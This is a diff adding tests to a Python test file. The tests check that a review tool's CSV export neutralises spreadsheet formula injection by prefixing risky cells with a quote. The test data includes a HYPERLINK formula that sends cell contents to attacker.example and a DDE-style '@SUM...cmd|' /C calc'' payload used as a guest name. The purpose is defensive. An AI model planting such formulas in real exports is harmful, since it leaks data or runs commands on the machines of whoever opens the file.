@@ -1,13 +1,17 @@
 """The review report (issue 25): a PDF with one entry per version and its comments, read back with a
-PDF text extractor; a CSV that round-trips; thumbnails of kept results."""
+PDF text extractor; a CSV that round-trips and holds no formula for a spreadsheet; thumbnails of kept
+results."""
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 
 import pypdf
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as hst
 from PIL import Image
 
 from dailies.journal import Journal, Scope, Submission
@@ -26,6 +30,7 @@ from dailies.review_report import (
     to_rows,
 )
 from dailies.spec.models import TaskRecord
+from dailies.spec.results import VIDEO_NAME
 
 BASE = "http://127.0.0.1:8000/api/v3"
 CHINESE = "河上的灯笼，慢慢升起"
@@ -118,6 +123,65 @@ def test_the_csv_keeps_commas_quotes_and_newlines():
                         {"Ana": 5}, [ReportComment("Bo", T0, 0.0, "line one\nline two, with comma")])
     assert from_csv(to_csv([entry])) == to_rows([entry])
     assert from_csv(to_csv([entry]))[0]["prompt"] == 'a "quoted", multi\nline prompt'
+
+
+FORMULA = '=HYPERLINK("https://attacker.example/?d="&E2&B2,"Open the final cut")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def as_a_spreadsheet_reads(text: str) -> list[dict[str, str]]:
+    """The CSV's cells as written (a spreadsheet drops nothing)."""
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_no_text_a_guest_or_member_typed_is_a_formula_in_a_spreadsheet(journal):
+    ana = journal.scoped(Scope.of_project(BASE, "studio", author="Ana"))
+    ana.record_submission(submission("cgt-1", "+ a wider shot"))
+    path = ana.keep_path("cgt-1", VIDEO_NAME)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(b"\x00")
+    ana.mark_kept("cgt-1", VIDEO_NAME, path)
+    _, token = ana.create_share(["cgt-1"], 86_400, allow_comments=True, allow_status=True)
+    guest = journal.guest_view(journal.open_share(token), "@SUM(1+1)*cmd|' /C calc'!A0")
+    guest.add_comment("cgt-1", FORMULA, timecode=2.0)
+    guest.set_status("cgt-1", APPROVED)
+    journal.scoped(Scope.of_project(BASE, "studio", author="-Bo")).rate("cgt-1", 4)
+    entries = entries_from_journal(ana, ["cgt-1"])
+    text = to_csv(entries)
+    [row] = as_a_spreadsheet_reads(text)
+    assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)], row
+    assert row["comment"] == "'" + FORMULA and row["prompt"] == "'+ a wider shot" and row["stars"] == "'-Bo:4"
+    assert row["comment_author"] == row["status_by"] == "'@SUM(1+1)*cmd|' /C calc'!A0 (guest)"
+    assert (row["timecode"], row["average_stars"], row["reply_to"]) == ("00:02.00", "4", "")  # as they are
+    # Read back, each cell is the text as typed.
+    assert from_csv(text) == to_rows(entries)
+    assert from_csv(text)[0]["comment"] == FORMULA
+
+
+@pytest.mark.parametrize(("typed", "written"), [
+    ("-5", "'-5"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("@x", "'@x"), ("plain", "plain"), ("", ""),
+    ("'tis the take", "'tis the take"),  # a quote before text: left alone, and read back as is
+    ("'=1+1", "''=1+1"), ("''@x", "'''@x"),  # quotes before a formula: one more, dropped when read back
+    ("a = b", "a = b"), (" =1", " =1"),
+])
+def test_a_text_cell_gets_a_quote_only_where_a_spreadsheet_would_compute_it(typed, written):
+    entry = ReportEntry("cgt-9", "v1", "m", T0, "p", "Approved", typed, T0, {},
+                        [ReportComment(typed, T0, 1.0, typed)])
+    text = to_csv([entry])
+    [row] = as_a_spreadsheet_reads(text)
+    assert (row["status_by"], row["comment_author"], row["comment"]) == (written, written, written)
+    assert from_csv(text) == to_rows([entry])
+
+
+@settings(max_examples=200, deadline=None)
+@given(hst.text(alphabet=hst.sampled_from(list("'=+-@\t\r\n ,\"a1")), max_size=12))
+def test_any_text_round_trips_and_no_cell_starts_a_formula(typed):
+    entry = ReportEntry("cgt-9", "v1", "m", T0, typed, "Approved", typed, T0, {typed: 3},
+                        [ReportComment(typed, T0, 0.5, typed)])
+    text = to_csv([entry])
+    assert from_csv(text) == to_rows([entry])
+    [row] = as_a_spreadsheet_reads(text)
+    assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)], row
 
 
 def pdf_text(data: bytes) -> str:
